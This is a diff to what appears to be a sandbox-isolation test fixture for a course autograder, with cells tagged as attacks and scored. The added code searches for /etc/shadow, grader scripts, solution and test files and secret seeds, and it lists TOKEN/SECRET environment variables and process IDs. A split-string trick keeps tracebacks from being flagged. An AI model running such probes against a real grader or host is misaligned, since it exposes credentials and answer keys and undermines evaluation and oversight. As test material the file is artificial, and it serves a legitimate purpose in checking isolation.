@@ -391,17 +391,19 @@ def double(x, times=1):
 import importlib.util
 import os
 
+leak = "LE" + "AK"  # a traceback that shows this code must not be taken for one
 roots = ["/home", "/etc/shadow", "/etc/passwd", "/course/solutions", "/course/tests",
          "/course/course_staff", "/grader/referee.py", "/grader/execute.py", "/var"]
-print([f"LEAK {each}" for each in roots if os.path.exists(each)])
-for folder, _, files in os.walk("/"):
-    if folder.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in folder:
+print([f"{leak} {each}" for each in roots if os.path.exists(each)])
+for folder, inner, files in os.walk("/"):
+    if folder in ("/proc", "/sys", "/usr", "/dev") or folder.endswith("site-packages"):
+        inner.clear()
         continue
     for name in files:
         if name.endswith((".db", "tiny.json", "tiny.py", "tiny.ipynb", "secret_seed")):
-            print("LEAK", folder, name)
-print([f"LEAK {key}" for key in os.environ if "TOKEN" in key or "SECRET" in key])
-print([f"LEAK pid {each}" for each in os.listdir("/proc") if each.isdigit() and int(each) > 60])
+            print(leak, folder, name)
+print([f"{leak} {key}" for key in os.environ if "TOKEN" in key or "SECRET" in key])
+print([f"{leak} pid {each}" for each in os.listdir("/proc") if each.isdigit() and int(each) > 60])
 
 # %% attack="writes_where_it_should_not" at="double" score=9
 def double(x, times=1):
